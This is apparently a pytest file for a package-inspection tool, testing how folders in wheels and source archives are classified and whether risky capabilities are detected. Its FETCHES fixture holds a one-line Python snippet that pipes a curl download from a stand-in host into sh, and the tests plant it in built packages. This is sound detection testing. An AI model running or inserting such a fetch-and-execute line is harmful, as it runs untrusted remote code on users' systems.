"""Folders of tests and examples that are what an artifact is for."""

import pytest

from pratique.analysis.own_folders import is_aside, own_folders
from pratique.core.manifest import Manifest
from tests.analysis.inspecting import bytes_, wheel
from tests.builders import tgz

FETCHES = "import os\nos.system('curl -s https://drop.pratique-test.invalid/a | sh')\n"


def own(imported: dict[str, str], name: str = "kite") -> tuple[str, ...]:
    return own_folders(Manifest(path=None, name=name, imported=imported))


@pytest.mark.parametrize(
    ("imported", "name", "found"),
    [
        ({"sample": "sample"}, "kite", ("sample",)),
        ({"sample": "sample", "tests": "tests"}, "kite", ("sample", "tests")),
        ({"sample": "sample", "tests": "tests"}, "sample", ("sample",)),
        ({"kite": "docs"}, "kite", ("docs",)),
        ({"kite": "tests/kite"}, "kite", ("tests/kite",)),
        ({"kite": "kite", "tests": "tests"}, "kite", ()),
        ({"kite": "kite", "testing": "src/testing"}, "Testing", ("src/testing",)),
        ({"kite_test": "kite_test.py"}, "kite", ("kite_test.py",)),
        ({"kite": "kite"}, "kite", ()),
        ({}, "tests", ()),
    ],
)
def test_a_folder_is_its_own_by_what_is_installed(
    imported: dict[str, str], name: str, found: tuple[str, ...]
) -> None:
    assert found == own(imported, name)


@pytest.mark.parametrize(
    ("path", "aside"),
    [
        ("sample/core.py", False),
        ("sample/tests/core.py", True),
        ("samples/core.py", True),
        ("load_test.py", False),
        ("docs/conf.py", True),
        ("kite/core.py", False),
    ],
)
def test_below_them_the_names_count_on(path: str, *, aside: bool) -> None:
    assert aside == is_aside(path, ("sample", "load_test.py"))


def test_a_package_called_as_tests_are_is_judged_as_the_code_that_it_is() -> None:
    alone = wheel({"testing/__init__.py": "", "testing/core.py": FETCHES}).inspection
    beside = wheel({"kite/__init__.py": "", "tests/__init__.py": "", "tests/core.py": FETCHES}).inspection

    assert any("called" in one for one in alone.capabilities)
    assert not any("called" in one for one in beside.capabilities)


def test_the_folder_that_a_build_takes_its_package_from_is_main_code() -> None:
    setup = "from setuptools import setup\nsetup(name='sample', packages=['sample'], package_dir={'sample': 'docs'})\n"
    files = {"PKG-INFO": "Metadata-Version: 2.1\nName: sample\nVersion: 1.0.0\n", "setup.py": setup}
    data = tgz({**files, "docs/__init__.py": FETCHES}, root="sample-1.0.0")
    found = bytes_(data, filename="sample-1.0.0.tar.gz").inspection

    assert any("import" in one for one in found.capabilities)
